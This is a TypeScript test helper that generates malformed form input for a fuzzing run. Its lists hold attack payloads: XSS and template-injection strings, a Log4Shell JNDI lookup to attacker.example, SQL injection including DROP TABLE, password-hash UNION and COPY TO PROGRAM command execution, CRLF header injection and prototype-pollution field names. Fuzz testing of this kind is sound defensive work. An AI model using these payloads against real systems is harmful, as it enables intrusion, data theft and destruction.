// What the junk flood puts where a person's answer goes: every value is a byte string, because
// invalid UTF-8 cannot be written as a JavaScript string. A seeded generator picks among them, so a
// failing run names its seed and can be run again exactly (JUNK_SEED).

export type Random = {
  int: (below: number) => number;
  pick: <T>(choices: readonly T[]) => T;
  chance: (probability: number) => boolean;
  bytes: (count: number) => Buffer;
};

/** mulberry32: small, fast and good enough to shuffle test inputs; the same seed gives the same run. */
export function seededRandom(seed: number): Random {
  let state = seed >>> 0;
  const next = () => {
    state = (state + 0x6d2b79f5) >>> 0;
    let t = state;
    t = Math.imul(t ^ (t >>> 15), t | 1);
    t ^= t + Math.imul(t ^ (t >>> 7), t | 61);
    return ((t ^ (t >>> 14)) >>> 0) / 4294967296;
  };
  const int = (below: number) => Math.floor(next() * below);
  return {
    int,
    pick: (choices) => choices[int(choices.length)]!,
    chance: (probability) => next() < probability,
    bytes: (count) => Buffer.from(Array.from({ length: count }, () => int(256))),
  };
}

const text = (value: string) => Buffer.from(value, "utf8");

const scriptFragments = [
  "<script>alert(document.cookie)</script>",
  '"><img src=x onerror=alert(1)>',
  "javascript:alert(1)",
  "</textarea><svg onload=alert(1)>",
  "{{constructor.constructor('alert(1)')()}}",
  "${7*7}#{7*7}<%= 7*7 %>",
  "${jndi:ldap://attacker.example/a}",
];

const sqlFragments = [
  "' OR '1'='1",
  `'; DROP TABLE "Lead"; --`,
  "1; SELECT pg_sleep(30)--",
  `" UNION SELECT "passwordHash" FROM "User"--`,
  "\\'; COPY (SELECT '') TO PROGRAM 'id'; --",
];

/** Bytes that are not UTF-8: lone continuation bytes, overlong forms, surrogates, a cut sequence, 0xFF. */
const invalidUtf8 = [
  Buffer.from([0x80, 0x81, 0xbf]),
  Buffer.from([0xc0, 0xaf]),
  Buffer.from([0xe0, 0x80, 0xaf]),
  Buffer.from([0xed, 0xa0, 0x80]),
  Buffer.from([0xf4, 0x90, 0x80, 0x80]),
  Buffer.from([0xe2, 0x82]),
  Buffer.from([0xfe, 0xff, 0xff, 0xfe]),
];

const controlCharacters = ["\u0000", "\u0001\u0002\u0003", "\r\n", "\r\nSet-Cookie: owned=1", "\u001b[31m", "\u202e", "\ufeff", "\u2028\u2029", "\ud800", "\udfff\ud800"];

const wrongTypes = ["1e309", "-0", "NaN", "Infinity", "true", "null", "[]", "{}", '{"$gt":""}', "[object Object]", "2026-13-45T99:99:99Z", "0x7fffffff", "-1", "9".repeat(400), "undefined"];

/** A JSON value nested `depth` deep: arrays or objects, as a parser that recurses would choke on. */
export function deeplyNested(depth: number, kind: "array" | "object"): string {
  return kind === "array" ? "[".repeat(depth) + "]".repeat(depth) : '{"a":'.repeat(depth) + "1" + "}".repeat(depth);
}

export type JunkValue = { kind: string; bytes: Buffer };

/** One malformed value: what kind it is (for the report) and its bytes. */
export function junkValue(random: Random, original: string): JunkValue {
  switch (random.int(11)) {
    case 0:
      return { kind: "empty", bytes: Buffer.alloc(0) };
    case 1: {
      const size = random.pick([5_000, 50_000, 300_000, 900_000]);
      return { kind: `huge ${size} B`, bytes: Buffer.alloc(size, random.pick(["a", "é", "😀", "<", "%00"])) };
    }
    case 2:
      return { kind: "invalid UTF-8", bytes: Buffer.concat([text(original.slice(0, 8)), random.pick(invalidUtf8), text(original.slice(8))]) };
    case 3:
      return { kind: "control characters", bytes: text(`${original}${random.pick(controlCharacters)}${original}`) };
    case 4:
      return { kind: "script", bytes: text(random.pick(scriptFragments)) };
    case 5:
      return { kind: "SQL", bytes: text(`${original}${random.pick(sqlFragments)}`) };
    case 6:
      return { kind: "wrong type", bytes: text(random.pick(wrongTypes)) };
    case 7:
      return { kind: "deeply nested JSON", bytes: text(deeplyNested(random.pick([100, 5_000, 50_000]), random.pick(["array", "object"] as const))) };
    case 8:
      return { kind: "random bytes", bytes: random.bytes(random.pick([1, 64, 4_096])) };
    case 9:
      return { kind: "unicode", bytes: text(random.pick(["👩🏽‍💻".repeat(500), "e\u0301".repeat(2_000), "ﷺ".repeat(300), "\u0000".repeat(100), "𝕆𝕡𝕤"])) };
    default:
      return { kind: "whitespace", bytes: text(random.pick([" ", "\t\t", "\n\n\n", " ".repeat(20_000)])) };
  }
}

/** Field names no form of ours has: prototype keys, bracketed paths, an action's own names, and long or binary ones. */
export function junkFieldName(random: Random): Buffer {
  switch (random.int(7)) {
    case 0:
      return text(random.pick(["__proto__", "constructor", "prototype", "__proto__[polluted]", "constructor[prototype][polluted]"]));
    case 1:
      return text(`a${"[b]".repeat(random.pick([10, 1_000]))}`);
    case 2:
      return text(random.pick(["$ACTION_REF_2", "$ACTION_2:0", "$ACTION_ID_00", "$ACTION_KEY", "1_$ACTION_REF_1", "0", "$K1"]));
    case 3:
      return text("x".repeat(random.pick([300, 20_000])));
    case 4:
      return Buffer.concat([text("field"), random.pick(invalidUtf8)]);
    case 5:
      return text(`"quoted"\r\nContent-Type: text/html`);
    default:
      return text(`extra${random.int(1_000)}`);
  }
}
